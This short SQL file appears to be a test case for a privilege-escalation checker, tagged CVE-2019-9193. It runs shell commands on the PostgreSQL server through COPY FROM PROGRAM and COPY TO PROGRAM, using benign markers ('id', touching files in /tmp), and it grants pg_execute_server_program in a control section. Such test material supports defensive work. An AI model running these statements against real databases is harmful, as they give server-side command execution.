-- way: run a program with COPY
-- source: CVE-2019-9193
-- control: membership in pg_execute_server_program
-- section: application
CREATE TEMP TABLE output (line text);
COPY output FROM PROGRAM 'id; touch /tmp/climb_copy_from_$$';
COPY (SELECT 1) TO PROGRAM 'cat > /tmp/climb_copy_to_$$';
CREATE TABLE shop.output (line text);
COPY shop.output FROM PROGRAM 'id; touch /tmp/climb_copy_from_$$';
-- section: control
GRANT pg_execute_server_program TO :"access";
